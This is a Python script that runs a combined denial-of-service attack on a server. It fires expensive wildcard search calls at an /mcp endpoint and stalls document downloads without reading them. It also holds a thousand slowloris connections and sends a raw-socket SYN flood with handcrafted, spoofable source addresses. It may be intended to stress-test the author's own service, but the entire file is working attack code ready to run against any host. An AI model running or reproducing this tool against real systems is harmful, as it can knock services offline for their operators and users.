"""A device that has a key and means harm: everything at once, as fast as it can.

    abuser.py SOURCE SERVER DOCUMENT SECONDS [calls,downloads,slow,syn]

It asks 10,000 dear questions a minute, begins four downloads of the large DOCUMENT (an id) that it never reads, keeps a thousand connections
trying to send a header a byte at a time, and floods the server's port 80 with SYN segments out of a raw socket. Prints, as JSON, how often
what happened.
"""

import asyncio
import collections
import json
import multiprocessing
import random
import socket
import struct
import sys
import time

CALLS_PER_SECOND = 10_000 / 60
CALLERS, DOWNLOADS, SLOW = 16, 4, 1000
SYNS_PER_SECOND = 20_000
HEADER = b"GET / HTTP/1.1\r\nhost: x\r\nx: " + b"a" * 10_000

# Begins of words, of which each stands for as many as may be, ten questions a call.
DEAR = [" ".join(f"{a}{b}*" for b in "aeioustrn") for a in "abcdefghil"]

counts = collections.Counter()


async def call(server, body, ends, pace):
    """Asks on one connection after the other."""
    request = b"POST /mcp HTTP/1.1\r\nhost: %s\r\ncontent-type: application/json\r\ncontent-length: %d\r\n\r\n%s" % (
        server.encode(), len(body), body)
    while time.monotonic() < ends:
        try:
            reader, writer = await asyncio.open_connection(server, 80)
            while time.monotonic() < ends:
                await pace()
                writer.write(request)
                head = await reader.readuntil(b"\r\n\r\n")
                counts["calls " + head.split(b" ", 2)[1].decode()] += 1
                length = next(int(line[15:]) for line in head.lower().splitlines() if line.startswith(b"content-length:"))
                await reader.readexactly(length)
        except (OSError, asyncio.IncompleteReadError):
            counts["calls cut"] += 1
            await asyncio.sleep(0.05)


def pacer(rate):
    """A turn for everybody who waits, so many a second altogether."""
    due = time.monotonic()

    async def pace():
        nonlocal due
        due = max(due + 1 / rate, time.monotonic() - 0.1)
        await asyncio.sleep(max(0, due - time.monotonic()))

    return pace


async def download(server, document, ends):
    """Asks for the whole file and never reads."""
    loop = asyncio.get_running_loop()
    while time.monotonic() < ends:
        with socket.socket() as it:
            it.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            it.setblocking(False)
            try:
                await loop.sock_connect(it, (server, 80))
                request = f"GET /api/documents/{document}/original HTTP/1.1\r\nhost: {server}\r\n\r\n"
                await loop.sock_sendall(it, request.encode())
                counts["downloads"] += 1
                await asyncio.sleep(ends - time.monotonic())
            except OSError as error:
                counts[f"downloads cut: {error}"] += 1
                await asyncio.sleep(0.2)


async def dawdle(server, ends):
    """Sends a header a byte a second, again and again."""
    while time.monotonic() < ends:
        try:
            _, writer = await asyncio.wait_for(asyncio.open_connection(server, 80), ends - time.monotonic())
            counts["slow connections"] += 1
            for byte in HEADER:
                writer.write(bytes([byte]))
                await writer.drain()
                await asyncio.sleep(1)
                if time.monotonic() > ends:
                    return
        except (OSError, TimeoutError):
            counts["slow connections refused"] += 1
            await asyncio.sleep(1)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source, server, port, sequence):
    """A SYN segment, RFC 9293 §3.1."""
    addresses = socket.inet_aton(source) + socket.inet_aton(server)
    fields = (port, 80, sequence, 0, 5 << 4, 2, 65535)
    unsummed = struct.pack("!HHIIBBHHH", *fields, 0, 0)
    return struct.pack("!HHIIBBHHH", *fields, checksum(addresses + struct.pack("!BBH", 0, 6, len(unsummed)) + unsummed), 0)


def flood(segments, server, ends, sent):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP) as it:
        began, number = time.monotonic(), 0
        while (now := time.monotonic()) < ends:
            while number < (now - began) * SYNS_PER_SECOND:
                try:
                    it.sendto(segments[number % len(segments)], (server, 0))
                except OSError:
                    pass  # Its own queue is full.
                number += 1
            sent.value = number
            time.sleep(0.001)


async def main(source, server, document, seconds, wanted="calls,downloads,slow,syn"):
    wanted, chance = wanted.split(","), random.Random(7)
    # Before the clock runs: whoever is nice to a busy machine takes seconds for them.
    segments = [syn(source, server, chance.randrange(1024, 65536), chance.getrandbits(32)) for _ in range(20_000)]
    ends = time.monotonic() + float(seconds)
    sent = multiprocessing.Value("q", 0)
    flooding = multiprocessing.Process(target=flood, args=(segments, server, ends, sent))
    queries = {"name": "search_multiple", "arguments": {"queries": DEAR}}
    body = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": queries}).encode()
    pace = pacer(CALLS_PER_SECOND)
    kinds = [("downloads", DOWNLOADS, lambda: download(server, document, ends)),
             ("calls", CALLERS, lambda: call(server, body, ends, pace)),
             ("slow", SLOW, lambda: dawdle(server, ends))]
    tasks = []
    for name, number, begin in kinds:
        tasks += [asyncio.create_task(begin()) for _ in range(number if name in wanted else 0)]
        await asyncio.sleep(0.3)  # All at once they would take each other's places.
    if "syn" in wanted:
        flooding.start()
    await asyncio.sleep(ends - time.monotonic())
    for task in tasks:
        task.cancel()
    if "syn" in wanted:
        flooding.join(5)
    counts["SYN segments"] = sent.value
    print(json.dumps(counts))


asyncio.run(main(*sys.argv[1:]))
